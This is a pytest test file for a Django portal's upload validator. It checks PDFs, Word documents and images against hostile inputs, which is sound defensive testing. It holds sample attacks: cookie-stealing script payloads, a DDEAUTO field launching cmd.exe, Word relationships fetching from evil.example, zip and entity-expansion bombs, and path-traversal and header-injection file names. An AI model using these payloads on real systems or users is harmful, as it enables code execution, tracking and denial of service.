import io
import os
import struct
import zipfile
import zlib

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile, TemporaryUploadedFile
from PIL import Image

from portal.demo.pdf import make_pdf
from portal.documents import validation
from portal.documents.validation import ValidatedUpload, reencode_image, safe_name, validate_upload

MB = 1024 * 1024
PDF = "application/pdf"
DOCX = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"


def upload(name, data):
    # The browser's content type is deliberately wrong: only the content may decide.
    return SimpleUploadedFile(name, data, content_type="text/plain")


def rejected(data, name="file.bin", **kwargs):
    f = upload(name, data)
    with pytest.raises(ValidationError) as info:
        validate_upload(f, **kwargs)
    assert f.tell() == 0
    return info.value


def png(size=(20, 10), mode="RGB", **save):
    out = io.BytesIO()
    Image.new(mode, size, "red" if mode == "RGB" else 1).save(out, "PNG", **save)
    return out.getvalue()


def jpeg(size=(20, 10), exif=None):
    out = io.BytesIO()
    Image.new("RGB", size, "blue").save(out, "JPEG", exif=exif or b"")
    return out.getvalue()


CONTENT_TYPES = (
    b'<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    b'<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    b'<Default Extension="xml" ContentType="application/xml"/>'
    b'<Override PartName="/word/document.xml" '
    b'ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'
)
ROOT_RELS = (
    b'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
    b'relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    b'relationships/officeDocument" Target="word/document.xml"/></Relationships>'
)
DOCUMENT = (
    b'<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="http://schemas.openxmlformats.org/'
    b'wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>Hello</w:t></w:r></w:p></w:body></w:document>'
)


def docx(extra=(), skip=(), document=DOCUMENT):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in [
            ("[Content_Types].xml", CONTENT_TYPES),
            ("_rels/.rels", ROOT_RELS),
            ("word/document.xml", document),
            *extra,
        ]:
            if name not in skip:
                zf.writestr(name, data)
    return out.getvalue()


@pytest.fixture(params=[1, 7, 64 * 1024], ids=["chunk1", "chunk7", "chunk64k"])
def chunk_size(request, monkeypatch):
    """Read uploads in tiny pieces too: the size, hash and end-of-file checks must not depend on it."""
    monkeypatch.setattr(validation, "_CHUNK", request.param)
    return request.param


# Good files


def test_good_pdf_from_make_pdf(chunk_size):
    data = make_pdf("Letter before proceedings", ["We are worried about (some) things.", "Next steps " * 200])
    f = upload("Letter before proceedings.pdf", data)
    result = validate_upload(f)
    assert isinstance(result, ValidatedUpload)
    # What is described (and stored) is the rewritten copy that was checked.
    assert (result.content_type, result.extension) == (PDF, "pdf")
    assert result.clean_content.startswith(b"%PDF-") and result.size == len(result.clean_content)
    assert result.safe_name == "Letter before proceedings.pdf"
    assert result.sha256 == __import__("hashlib").sha256(result.clean_content).hexdigest()
    assert f.tell() == 0


def test_good_docx():
    result = validate_upload(upload("minutes.docx", docx()))
    assert (result.content_type, result.extension, result.safe_name) == (DOCX, "docx", "minutes.docx")


def test_good_docx_with_chart_workbook_and_hyperlink():
    link = (
        b'<Relationships><Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        b'relationships/hyperlink" Target="https://www.gov.uk/" TargetMode="External"/></Relationships>'
    )
    extra = [("word/_rels/document.xml.rels", link), ("word/embeddings/Microsoft_Excel_Worksheet.xlsx", b"x")]
    assert validate_upload(upload("plan.docx", docx(extra))).content_type == DOCX


def test_good_jpeg_and_png():
    assert validate_upload(upload("photo.jpeg", jpeg())).safe_name == "photo.jpg"
    result = validate_upload(upload("scan.PNG", png()))
    assert (result.content_type, result.extension, result.safe_name) == ("image/png", "png", "scan.png")


def test_type_comes_from_content_not_name():
    result = validate_upload(upload("holiday.pdf", png()))
    assert (result.content_type, result.safe_name) == ("image/png", "holiday.png")


def test_temporary_uploaded_file_on_disk():
    for data, kind in [(make_pdf("On disk", ["text"]), PDF), (docx(), DOCX), (png(), "image/png")]:
        f = TemporaryUploadedFile("x", "text/plain", len(data), None)
        try:
            f.write(data)
            f.seek(0)
            assert validate_upload(f).content_type == kind
            assert f.tell() == 0
        finally:
            f.close()


class RecordingBytesIO(io.BytesIO):
    def __init__(self, data):
        super().__init__(data)
        self.sizes = []

    def read(self, size=-1):
        self.sizes.append(size)
        return super().read(size)


def test_pdf_is_read_in_chunks():
    data = make_pdf("Chunks", ["word " * 50000])
    f = upload("a.pdf", data)
    f.file = RecordingBytesIO(data)
    validate_upload(f)
    assert len(f.file.sizes) > 2
    assert all(0 < size <= validation._CHUNK for size in f.file.sizes)


# Size and emptiness


def test_empty_file():
    assert rejected(b"", "a.pdf").code == "empty"


def test_too_big_is_refused_quickly(settings):
    settings.PORTAL_DOCUMENT_MAX_BYTES = 20 * MB
    f = upload("big.pdf", b"%PDF-1.4")
    f.size = 25 * MB  # refused on the declared size, before reading
    with pytest.raises(ValidationError) as info:
        validate_upload(f)
    assert info.value.messages == ["This file is 25 MB. The largest file you can share is 20 MB."]


def test_too_big_with_small_limit():
    error = rejected(make_pdf("x", ["y"]), "a.pdf", max_bytes=100)
    assert error.code == "too_big"
    assert "100 bytes" in error.messages[0]


def test_size_is_counted_not_trusted():
    f = upload("a.pdf", make_pdf("x", ["y" * 500]))
    f.size = 10
    with pytest.raises(ValidationError) as info:
        validate_upload(f, max_bytes=200)
    assert info.value.code == "too_big"


# Wrong types and web pages


@pytest.mark.parametrize(
    "data",
    [
        b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>",
        b"  \r\n<html><script>alert(1)</script>",
        b"%PDF-1.4\n<html><script>alert(1)</script></html>",
    ],
)
def test_html_named_pdf(data):
    assert rejected(data, "letter.pdf").code == "web_page"


def test_svg_with_script_named_png():
    svg = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
    assert rejected(svg, "photo.png").code == "web_page"
    assert rejected(b"<svg onload=alert(1)>", "photo.png").code == "web_page"


def test_html_then_png_is_rejected():
    assert rejected(b"<html><script>alert(1)</script></html>" + png(), "photo.png").code == "web_page"


def test_markup_inside_image_header_is_rejected():
    # A text chunk near the start of a PNG puts "<script" where browsers sniff.
    from PIL.PngImagePlugin import PngInfo

    info = PngInfo()
    info.add_text("Comment", "<script>alert(1)</script>")
    assert rejected(png(pnginfo=info), "photo.png").code == "web_page"


@pytest.mark.parametrize(
    "data, hint",
    [
        (b"MZ\x90\x00" + b"\x00" * 100, ""),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 100, "older Word file"),
        (b"\x00\x00\x00\x18ftypheic" + b"\x00" * 100, "HEIC"),
        (b"GIF89a" + b"\x00" * 100, ""),
    ],
)
def test_unknown_types(data, hint):
    error = rejected(data, "file.pdf")
    assert error.code == "type"
    assert hint in error.messages[0]


# PDFs: the checks on what a PDF contains are in test_pdf_check.py (hostile files built with pikepdf).


def test_pdf_text_that_mentions_javascript_is_fine():
    data = make_pdf("About /JavaScript", ["Type /OpenAction and /JS here; it is only text."])
    assert validate_upload(upload("a.pdf", data)).content_type == PDF


def test_truncated_pdf():
    assert rejected(make_pdf("x", ["y"])[:-200], "a.pdf").code == "pdf_damaged"


def test_bytes_that_only_start_like_a_pdf():
    assert rejected(b"%PDF-1.7\n" + os.urandom(4000) + b"\n%%EOF\n", "a.pdf").code == "pdf_damaged"


# Word documents


@pytest.fixture(scope="module")
def zip_bomb():
    """A docx whose document.xml unpacks to 200 MB of zeros: about 200 KB on disk. Built by streaming."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("[Content_Types].xml", CONTENT_TYPES)
        with zf.open("word/document.xml", "w") as entry:
            zeros = bytes(MB)
            for _ in range(200):
                entry.write(zeros)
    return out.getvalue()


def test_docx_zip_bomb_is_rejected_without_extracting(zip_bomb, monkeypatch):
    assert len(zip_bomb) < MB

    def no_extracting(*args, **kwargs):
        raise AssertionError("a zip entry was opened")

    monkeypatch.setattr(zipfile.ZipFile, "open", no_extracting)
    assert rejected(zip_bomb, "report.docx").code == "docx_big"


def test_docx_high_compression_ratio_single_entry():
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("[Content_Types].xml", CONTENT_TYPES)
        zf.writestr("word/document.xml", DOCUMENT)
        zf.writestr("word/media/blank.bin", bytes(20 * MB))  # 20 MB of zeros, about 20 KB compressed
    assert rejected(out.getvalue(), "a.docx").code == "docx_big"


def test_docx_with_macros():
    assert rejected(docx([("word/vbaProject.bin", b"\xd0\xcf\x11\xe0macro")]), "a.docx").code == "docx_active"


@pytest.mark.parametrize(
    "name", ["word/activeX/activeX1.xml", "word/embeddings/oleObject1.bin", "word/embeddings/Book1.xlsm"]
)
def test_docx_with_activex_or_ole(name):
    assert rejected(docx([(name, b"<x/>")]), "a.docx").code == "docx_active"


def test_docx_with_remote_template():
    rels = (
        b"<Relationships><Relationship Id='rId1' TargetMode='External' Target='http://evil.example/t.dotm' "
        b"Type='http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate'/>"
        b"</Relationships>"
    )
    assert rejected(docx([("word/_rels/settings.xml.rels", rels)]), "a.docx").code == "docx_active"


def test_docx_with_too_many_entries():
    many = [(f"word/media/image{i}.png", b"x") for i in range(1001)]
    assert rejected(docx(many), "a.docx").code == "docx_big"


def test_docx_end_record_claiming_huge_directory():
    data = bytearray(docx())
    at = data.rfind(b"PK\x05\x06")
    data[at + 12 : at + 16] = struct.pack("<I", 50 * MB)
    assert rejected(bytes(data), "a.docx").code == "docx_big"


@pytest.mark.parametrize("skip", ["word/document.xml", "[Content_Types].xml"])
def test_docx_missing_required_parts(skip):
    assert rejected(docx(skip=[skip]), "a.docx").code == "docx_damaged"


def test_zip_that_is_not_a_docx():
    assert rejected(b"PK\x03\x04" + b"\x00" * 200, "a.docx").code == "docx_damaged"
    truncated = docx()[:-30]
    assert rejected(truncated, "a.docx").code == "docx_damaged"


# Images


def noisy_png(size=(64, 64)):
    out = io.BytesIO()
    Image.frombytes("RGB", size, os.urandom(size[0] * size[1] * 3)).save(out, "PNG")
    return out.getvalue()


def test_png_html_polyglot_is_reencoded_without_the_tail():
    data = noisy_png() + b"<script>alert(document.cookie)</script>"
    assert len(data) > 2048  # the script is past the first kilobyte, where sniffing looks
    f = upload("photo.png", data)
    validated = validate_upload(f)
    assert validated.content_type == "image/png"
    clean = reencode_image(f, validated)
    content = clean.read()
    assert b"<script" not in content
    assert content.startswith(b"\x89PNG\r\n\x1a\n")
    assert clean.name == "photo.png"
    assert Image.open(io.BytesIO(content)).tobytes() == Image.open(io.BytesIO(data)).tobytes()
    assert f.tell() == 0


def test_small_png_html_polyglot_is_rejected():
    # A tiny picture puts the script inside the first kilobyte, where a browser might sniff it.
    assert rejected(png() + b"<script>alert(1)</script>", "photo.png").code == "web_page"


def test_jpeg_reencode_strips_exif_and_applies_orientation():
    exif = Image.Exif()
    exif[0x0112] = 6  # rotate 90 degrees when shown
    exif[0x010F] = "Phone maker"
    data = jpeg(size=(40, 20), exif=exif.tobytes())
    f = upload("IMG_0001.JPG", data)
    clean = reencode_image(f, validate_upload(f)).read()
    image = Image.open(io.BytesIO(clean))
    assert image.format == "JPEG"
    assert image.size == (20, 40)
    assert not image.getexif()
    assert b"Phone maker" not in clean


def test_png_reencode_keeps_transparency():
    data = png(mode="P", transparency=0)
    f = upload("icon.png", data)
    image = Image.open(io.BytesIO(reencode_image(f, validate_upload(f)).read()))
    assert image.mode == "P" and image.info.get("transparency") == 0


@pytest.mark.parametrize("make", [png, jpeg])
def test_truncated_image(make):
    data = make(size=(200, 200))
    assert rejected(data[: len(data) // 2], "a.img").code == "image_damaged"


def test_image_with_too_many_pixels():
    out = io.BytesIO()
    Image.new("1", (8000, 6000)).save(out, "PNG")  # 48 megapixels, a few KB on disk
    assert rejected(out.getvalue(), "big.png").code == "image_big"


def test_png_header_claiming_huge_size():
    def chunk(kind, body):
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    header = struct.pack(">IIBBBBB", 30000, 30000, 8, 2, 0, 0, 0)
    data = b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(b"")) + chunk(b"IEND", b"")
    assert rejected(data, "bomb.png").code == "image_big"


def test_fake_jpeg():
    assert rejected(b"\xff\xd8\xff" + b"not really a picture" * 10, "a.jpg").code == "image_damaged"


# Names


@pytest.mark.parametrize(
    "name, expected",
    [
        ("../../etc/passwd.pdf", "passwd.pdf"),
        ("C:\\Users\\worker\\Letter.PDF", "Letter.pdf"),
        ("", "document.pdf"),
        (None, "document.pdf"),
        ("...pdf", "document.pdf"),
        (".pdf", "document.pdf"),
        ("report.exe", "report.exe.pdf"),
        ("Minutes  of\tthe   meeting.pdf", "Minutes of the meeting.pdf"),
        ("invoice\u202efdp.exe", "invoice fdp.exe.pdf"),
    ],
)
def test_safe_name(name, expected):
    assert safe_name(name, PDF) == expected


@pytest.mark.parametrize(
    "name",
    [
        "evil\r\nX-Header: y.pdf",
        'a"; filename="x.html.pdf',
        "..\\..\\windows\\win.ini",
        "/etc/shadow\x00.pdf",
        "x" * 400 + ".pdf",
        "\n\r\t\"'",
    ],
)
def test_safe_name_has_no_dangerous_characters(name):
    result = validate_upload(upload(name, make_pdf("x", ["y"]))).safe_name
    assert not any(c in result for c in '/\\\r\n"\x00')
    assert result.endswith(".pdf") and 5 <= len(result) <= 150


def test_safe_name_forces_detected_extension():
    assert safe_name("photo.jpeg", "image/jpeg") == "photo.jpg"
    assert safe_name("photo.png", "image/jpeg") == "photo.jpg"
    assert safe_name("notes.pdf", DOCX) == "notes.docx"


# Word documents: fields, links out and pulled-in documents (parsed as XML, never searched as bytes)

W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
R_TYPE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"


def word_body(inner):
    return f'<?xml version="1.0"?><w:document {W}><w:body><w:p>{inner}</w:p></w:body></w:document>'.encode()


def field_in_runs(*pieces):
    """A field whose code is split over several runs, as Word writes it after editing."""
    runs = "".join(f'<w:r><w:instrText xml:space="preserve">{piece}</w:instrText></w:r>' for piece in pieces)
    return (
        f'<w:r><w:fldChar w:fldCharType="begin"/></w:r>{runs}'
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>shown</w:t></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
    )


def relationships(kind, target, external=True):
    mode = ' TargetMode="External"' if external else ""
    return (
        '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="rId7" Type="{R_TYPE}{kind}" Target="{target}"{mode}/></Relationships>'
    ).encode()


@pytest.mark.parametrize(
    "document",
    [
        word_body('<w:fldSimple w:instr=" DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k calc&quot;"/>'),
        word_body(field_in_runs("DD", "E excel ", '"c:\\\\x"')),
        word_body(field_in_runs(' INCLUDETEXT "\\\\\\\\evil.example\\\\share\\\\a.docx" ')),
        word_body(field_in_runs(' includepicture "http://evil.example/track.png" \\d ')),
        word_body(field_in_runs(" LINK Excel.Sheet.12 ", '"http://evil.example/x.xlsx"')),
        word_body(
            '<w:r><w:t>x</w:t></w:r></w:p><w:altChunk r:id="rId7" '
            'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"/><w:p>'
        ),
        word_body("<w:r><w:object><w:t>embedded</w:t></w:object></w:r>"),
    ],
    ids=["dde-simple", "dde-split-over-runs", "includetext", "includepicture-lowercase", "link", "altchunk", "object"],
)
def test_docx_with_fields_that_run_or_fetch_or_pulled_in_content(document):
    data = docx(document=document)
    assert rejected(data, "a.docx").code == "docx_active"


@pytest.mark.parametrize(
    ("part", "rels"),
    [
        ("word/_rels/document.xml.rels", relationships("image", "http://evil.example/pixel.png")),
        ("word/_rels/document.xml.rels", relationships("oleObject", "file://evil.example/x.bin")),
        ("word/_rels/document.xml.rels", relationships("aFChunk", "afchunk.mht", external=False)),
        ("word/_rels/settings.xml.rels", relationships("attachedTemplate", "https://evil.example/t.dotm")),
        ("word/_rels/webSettings.xml.rels", relationships("frame", "http://evil.example/f.html")),
    ],
    ids=["remote-picture", "remote-object", "altchunk-part", "remote-template", "frame"],
)
def test_docx_with_links_out_or_pulled_in_documents(part, rels):
    assert rejected(docx([(part, rels)]), "a.docx").code == "docx_active"


def test_docx_with_ordinary_fields_and_a_web_link_is_fine():
    document = word_body(field_in_runs(" PAGE ") + field_in_runs(" HYPERLINK ", '"https://www.gov.uk/"'))
    rels = relationships("hyperlink", "https://www.gov.uk/")
    data = docx([("word/_rels/document.xml.rels", rels)], document=document)
    assert validate_upload(upload("a.docx", data)).content_type == DOCX


def test_docx_part_that_is_not_xml_is_damaged():
    data = docx([("word/styles.xml", b"<w:styles <<< not xml")])
    assert rejected(data, "a.docx").code == "docx_damaged"


def test_docx_with_an_entity_expansion_bomb_is_not_expanded():
    """Entities are never expanded (a billion of them would take the server's memory): the parser
    stops at once, and a file Word would never write is refused as damaged."""
    entities = '<!ENTITY e0 "aaaaaaaaaa">' + "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, 10))
    bomb = (
        f'<?xml version="1.0"?><!DOCTYPE w:document [{entities}]><w:document {W}><w:body><w:p><w:r>'
        "<w:t>&e9;</w:t></w:r></w:p></w:body></w:document>"
    ).encode()
    assert rejected(docx(document=bomb), "a.docx").code == "docx_damaged"
